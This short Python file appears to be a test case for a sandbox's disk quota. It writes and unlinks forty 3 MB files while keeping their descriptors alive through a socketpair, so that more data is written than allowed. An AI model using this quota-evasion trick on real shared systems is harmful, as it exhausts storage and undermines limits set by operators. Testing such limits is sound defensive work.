ATTACK = {
    "success": "more is written than allowed",
    "stopped by": ["quota"],
}


def attack():
    import os, socket, time
    a, b = socket.socketpair()
    for number in range(40):
        descriptor = os.open(f"{number}", os.O_CREAT | os.O_RDWR)
        os.write(descriptor, bytes(3 << 20))
        os.unlink(f"{number}")
        socket.send_fds(a, [b"x"], [descriptor])
        os.close(descriptor)
    for _ in range(10):
        time.sleep(0.1)
    raise RuntimeError(CLAIM)


attack()
